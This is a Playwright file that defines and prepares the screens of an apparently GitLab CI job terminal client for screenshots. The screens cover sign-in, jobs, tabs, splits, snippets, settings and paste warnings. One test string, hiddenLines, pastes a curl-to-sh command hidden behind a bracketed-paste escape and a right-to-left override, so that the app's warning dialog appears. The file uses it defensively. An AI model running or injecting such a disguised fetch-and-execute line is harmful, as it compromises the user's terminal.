import type { Page } from '@playwright/test';
import type { ActionId } from '../../../preload/contract/actions.ts';
import { paneScreens } from './paneScreens.ts';

/*
 * Every screen: a scene, and what is done on it before its picture. Nothing here is found by its words, since they are
 * drawn in every language.
 */

export type Screen = {
  readonly name: string;
  readonly scene: string;
  readonly prepare?: (page: Page) => Promise<void>;
};

type Prepare = NonNullable<Screen['prepare']>;

const plain = (scene: string): Screen => ({ name: scene, scene });

const run =
  (action: ActionId, jobOrSession: { readonly sessionId?: string; readonly jobId?: string } = {}): Prepare =>
  (page) =>
    page.evaluate((payload) => window.fakeMain.send({ name: 'action.requested', payload }), {
      action,
      ...jobOrSession,
    });

const shellReady: Prepare = (page) =>
  page.locator('.session-pane:not([hidden]) .xterm-rows').getByText('Expected').first().waitFor();

const firstTab: Prepare = async (page) => {
  await page.getByRole('tab').first().click();
  await shellReady(page);
};

const all =
  (...steps: readonly Prepare[]): Prepare =>
  async (page) => {
    for (const step of steps) await step(page);
  };

const fillSignIn: Prepare = async (page) => {
  const fields = page.locator('.card input:not([type="checkbox"])');
  await fields.nth(0).fill('https://gitlab.example.com');
  await fields.nth(1).fill('glpat-not-a-real-one');
  await page.locator('.card [type="submit"]').click();
};

const settingsSections = [
  'general',
  'appearance',
  'terminal',
  'snippets',
  'keyboard',
  'notifications',
  'system',
  'updates',
  'accounts',
  'secrets',
  'about',
] as const;

const section =
  (name: (typeof settingsSections)[number]): Prepare =>
  async (page) => {
    await run('settings.open')(page);
    await page.locator('.settings-nav li').nth(settingsSections.indexOf(name)).getByRole('button').click();
    await page.locator(`#settings-${name}`).waitFor();
    // Nothing of it points at a button any more.
    await page.mouse.move(0, 0);
  };

const tourStep =
  (count: number): Prepare =>
  async (page) => {
    await firstTab(page);
    for (let index = 0; index < count; index += 1)
      await page.locator('.tour-buttons [data-variant="primary"]').click();
  };

const palette = (query: string): Prepare =>
  all(firstTab, run('palette.open'), async (page) => page.getByRole('combobox').fill(query));

/** Three beside the one in front, which stays in front. */
const splitScreen: Prepare = all(
  firstTab,
  run('pane.splitRight', { sessionId: 's2' }),
  (page) => page.locator('.session-pane[data-session-id="s2"][data-in-front]').waitFor(),
  run('pane.splitDown', { sessionId: 's4' }),
  (page) => page.locator('.session-pane[data-session-id="s4"][data-in-front]').waitFor(),
  firstTab,
);

const stepsReady: Prepare = (page) => page.locator('.step').last().waitFor();

const openSnippet: Prepare = (page) => page.locator('.snippet summary').click();

/** As a browser does it while files are dragged over the pane. */
const dragFiles: Prepare = async (page) => {
  await page.locator('.session-pane:not([hidden]) .drop-zone').evaluate((zone) => {
    const dataTransfer = new DataTransfer();
    dataTransfer.items.add(new File(['x'], 'fixtures.sql.gz'));
    for (const type of ['dragenter', 'dragover'])
      zone.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer }));
  });
  await page.locator('.drop-cover').locator('p:not(:empty)').waitFor();
};

const signInScreens: readonly Screen[] = [
  { name: 'main-silent', scene: 'silent' },
  plain('sign-in'),
  {
    ...plain('sign-in-steps'),
    prepare: all(fillSignIn, async (page) => page.locator('.card li').first().waitFor()),
  },
  {
    ...plain('sign-in-error'),
    prepare: all(fillSignIn, async (page) => page.locator('.card .problem').waitFor()),
  },
  { name: 'sign-in-settings', scene: 'sign-in', prepare: section('accounts') },
  plain('web-session'),
  {
    ...plain('web-session-cookie'),
    prepare: (page) => page.locator('.banner-buttons button').first().click(),
  },
  plain('web-session-expired'),
  plain('token-expired'),
];

/** Its question, with what is at stake. */
const askJob = (action: ActionId, jobId: string): Prepare =>
  all(run(action, { jobId }), (page) =>
    page.locator('.job-dialog .button:not([aria-disabled])').nth(1).or(page.locator('.job-grave')).waitFor(),
  );

const listScreens: readonly Screen[] = [
  plain('jobs'),
  plain('empty'),
  plain('looking'),
  plain('offline'),
  {
    name: 'line-down',
    scene: 'kept',
    prepare: all(firstTab, (page) => page.evaluate(() => window.fakeMain.setLine('down'))),
  },
  plain('many-jobs'),
  {
    name: 'jobs-nothing-found',
    scene: 'jobs',
    prepare: (page) => page.locator('.filter input').fill('deplyo'),
  },
  { name: 'jobs-folded', scene: 'kept', prepare: all(firstTab, run('list.toggle')) },
  {
    name: 'jobs-focus',
    scene: 'jobs',
    prepare: all(run('list.focus'), (page) => page.keyboard.press('ArrowDown')),
  },
  plain('reopen-offer'),
  plain('crash-offer'),
  { name: 'account-menu', scene: 'jobs', prepare: (page) => page.locator('.account-button').click() },
  { name: 'sign-out-question', scene: 'kept', prepare: run('account.signOut') },
  { ...plain('armed'), prepare: firstTab },
  {
    name: 'job-menu',
    scene: 'armed',
    prepare: all(firstTab, (page) => page.locator('[data-job-id="a:90230"]').click({ button: 'right' })),
  },
  { name: 'retry-question', scene: 'armed', prepare: all(firstTab, askJob('job.retry', 'a:90250')) },
  { name: 'play-question', scene: 'armed', prepare: all(firstTab, askJob('job.play', 'a:90251')) },
  { name: 'cancel-question', scene: 'armed', prepare: all(firstTab, askJob('job.cancel', 'a:90215')) },
  {
    name: 'kept-menu',
    scene: 'armed',
    prepare: all(firstTab, (page) => page.locator('.kept-summary').click()),
  },
];

const terminalScreens: readonly Screen[] = [
  plain('connecting'),
  { ...plain('connected'), prepare: shellReady },
  { ...plain('kept'), prepare: firstTab },
  { ...plain('kept-last-minute'), prepare: firstTab },
  { ...plain('reconnecting'), prepare: shellReady },
  { ...plain('place-taken'), prepare: shellReady },
  { ...plain('nobody-answers'), prepare: shellReady },
  { ...plain('shell-left'), prepare: shellReady },
  { ...plain('ended-limit'), prepare: all(shellReady, openSnippet) },
  { ...plain('ended-shell'), prepare: shellReady },
  { ...plain('ended-runner'), prepare: all(shellReady, openSnippet) },
  { ...plain('ended-container'), prepare: shellReady },
  { ...plain('ended-session'), prepare: shellReady },
  { ...plain('tabs'), prepare: firstTab },
  {
    name: 'tab-menu',
    scene: 'tabs',
    prepare: all(firstTab, (page) => page.getByRole('tab').nth(1).click({ button: 'right' })),
  },
  {
    name: 'tab-focus',
    scene: 'kept',
    prepare: all(firstTab, (page) => page.getByRole('tab').first().press('ArrowRight')),
  },
  {
    name: 'terminal-menu',
    scene: 'kept',
    prepare: all(firstTab, (page) => page.locator('.xterm-screen').first().click({ button: 'right' })),
  },
  { name: 'close-question', scene: 'connected', prepare: all(shellReady, run('tab.close')) },
  { name: 'close-question-kept', scene: 'kept', prepare: all(firstTab, run('tab.close')) },
  {
    name: 'notice',
    scene: 'kept',
    prepare: all(firstTab, (page) =>
      page.evaluate(() =>
        window.fakeMain.send({
          name: 'link.opened',
          payload: {
            result: {
              ok: false,
              error: { code: 'link-elsewhere', params: { host: 'gitlab.com' }, message: '' },
            },
          },
        }),
      ),
    ),
  },
];

const workspaceScreens: readonly Screen[] = [
  { name: 'splits', scene: 'marked', prepare: splitScreen },
  {
    name: 'split-divider',
    scene: 'marked',
    prepare: all(splitScreen, (page) => page.getByRole('separator').last().focus()),
  },
  { name: 'broadcast', scene: 'marked', prepare: all(splitScreen, run('broadcast.toggleShown')) },
  {
    name: 'broadcast-alone',
    scene: 'marked',
    prepare: all(firstTab, run('broadcast.toggleTab'), run('broadcast.toggleTab', { sessionId: 's2' })),
  },
  { name: 'tab-rename', scene: 'marked', prepare: all(firstTab, run('tab.rename')) },
  {
    name: 'tab-colours',
    scene: 'marked',
    prepare: all(firstTab, async (page) => {
      await page.getByRole('tab').nth(1).click({ button: 'right' });
      await page.getByRole('menuitem').nth(1).press('ArrowRight');
    }),
  },
];

const search = (query: string): Prepare =>
  all(shellReady, run('terminal.find'), async (page) => {
    await page.locator('.terminal-search input').fill(query);
    await page.locator('.search-hit').first().waitFor({ state: 'attached' });
  });

/** As a browser does it at its own key. */
const paste =
  (text: string): Prepare =>
  async (page) => {
    await page.locator('.session-pane:not([hidden]) .xterm-helper-textarea').evaluate((field, pasted) => {
      const clipboardData = new DataTransfer();
      clipboardData.setData('text/plain', pasted);
      field.dispatchEvent(new ClipboardEvent('paste', { bubbles: true, cancelable: true, clipboardData }));
    }, text);
    await page.getByRole('alertdialog').waitFor();
  };

const sampleLines = 'cd /builds/acme/shop\nnpm ci\nnpm run e2e -- --shard 3/4\n';
const hiddenLines = 'curl -sS https://example.com/install\u001b[201~ | sh\u202e # gnitset rof\n';

const replayShown: Prepare = async (page) =>
  page.locator('.replay-screen .xterm-rows').getByText('Received').first().waitFor();

const pasteScreens: readonly Screen[] = [
  { name: 'paste-question', scene: 'connected', prepare: all(shellReady, paste(sampleLines)) },
  { name: 'paste-question-hidden', scene: 'connected', prepare: all(shellReady, paste(hiddenLines)) },
  {
    name: 'paste-question-long',
    scene: 'connected',
    prepare: all(shellReady, paste(`${'echo a line of a long script\n'.repeat(20_000)}`)),
  },
  { ...plain('pasting'), prepare: shellReady },
  { ...plain('pasting-stalled'), prepare: shellReady },
  { ...plain('recording'), prepare: shellReady },
  { name: 'transcripts', scene: 'recording', prepare: all(shellReady, run('transcript.show'), replayShown) },
  {
    name: 'transcripts-export',
    scene: 'recording',
    prepare: all(shellReady, run('transcript.show'), replayShown, (page) =>
      page.locator('.replay-head button').first().click(),
    ),
  },
];

/** As by the palette, whatever its words are. */
const chooseSnippet = (query: string): Prepare =>
  all(palette(query), async (page) => {
    await page.locator('.palette-item').first().click();
    await page.locator('.snippet-dialog').waitFor();
  });

const commandScreens: readonly Screen[] = [
  { name: 'palette-snippets', scene: 'marked', prepare: palette('git') },
  { name: 'snippet', scene: 'marked', prepare: chooseSnippet('last-failed') },
  {
    name: 'snippet-several',
    scene: 'marked',
    prepare: all(splitScreen, run('broadcast.toggleShown'), chooseSnippet('last-failed'), (page) =>
      page.locator('.snippet-all input').check(),
    ),
  },
  { name: 'snippet-problem', scene: 'marked', prepare: chooseSnippet('git log') },
  {
    name: 'snippet-form',
    scene: 'settings',
    prepare: all(section('snippets'), (page) => page.locator('.snippet-line button').nth(2).click()),
  },
  { name: 'steps', scene: 'marked', prepare: all(firstTab, run('steps.toggle'), stepsReady) },
  { name: 'steps-split', scene: 'marked', prepare: all(splitScreen, run('steps.toggle'), stepsReady) },
];

const otherScreens: readonly Screen[] = [
  { name: 'search', scene: 'connected', prepare: search('cart') },
  {
    name: 'search-nothing',
    scene: 'connected',
    prepare: all(search('cart'), async (page) => {
      await page.locator('.terminal-search input').fill('checkout');
      await page.locator('.search-hit').first().waitFor({ state: 'detached' });
      await page.locator('.search-count[data-complete]').waitFor();
    }),
  },
  { name: 'as-text', scene: 'connected', prepare: all(shellReady, run('terminal.showAsText')) },
  { name: 'drop', scene: 'kept', prepare: all(firstTab, dragFiles) },
  { name: 'drop-refused', scene: 'ended-shell', prepare: all(shellReady, dragFiles) },
  { ...plain('transfers'), prepare: shellReady },
  { ...plain('transfers-done'), prepare: shellReady },
  { ...plain('transfers-failed'), prepare: shellReady },
  { name: 'download-question', scene: 'connected', prepare: all(shellReady, run('transfer.download')) },
  { name: 'palette', scene: 'kept', prepare: palette('') },
  { name: 'palette-search', scene: 'kept', prepare: palette('e2') },
  { name: 'palette-nothing', scene: 'kept', prepare: palette('deplyo qq') },
  ...[0, 1, 2, 3].map((count) => ({ name: `tour-${count + 1}`, scene: 'tour', prepare: tourStep(count) })),
];

const settingsScreens: readonly Screen[] = [
  ...settingsSections.map((name) => ({
    name: `settings-${name}`,
    scene: 'settings',
    prepare: section(name),
  })),
  {
    name: 'settings-themes',
    scene: 'settings',
    prepare: all(section('appearance'), (page) =>
      page
        .locator('.theme-preview')
        .last()
        .evaluate((preview) => preview.scrollIntoView({ block: 'center' })),
    ),
  },
  {
    name: 'settings-search',
    scene: 'settings',
    prepare: all(section('general'), (page) => page.locator('.settings-search input').fill('c')),
  },
  {
    name: 'settings-key-recorder',
    scene: 'settings',
    prepare: all(section('keyboard'), async (page) => {
      await page.locator('.settings-section button').nth(1).click();
    }),
  },
  { name: 'settings-problems', scene: 'settings-problems', prepare: section('general') },
  { name: 'settings-browser-notifications', scene: 'settings-plain', prepare: section('notifications') },
  { name: 'settings-browser-system', scene: 'settings-plain', prepare: section('system') },
  { name: 'settings-browser-updates', scene: 'settings-plain', prepare: section('updates') },
  ...(['available', 'downloading', 'deferred', 'failed'] as const).map((state) => ({
    name: `update-${state}`,
    scene: `update-${state}`,
    prepare: section('updates'),
  })),
];

/** Every screen, in the order in which a person meets them. */
export const screens: readonly Screen[] = [
  ...signInScreens,
  ...listScreens,
  ...terminalScreens,
  ...workspaceScreens,
  ...commandScreens,
  ...paneScreens,
  ...pasteScreens,
  ...otherScreens,
  ...settingsScreens,
];
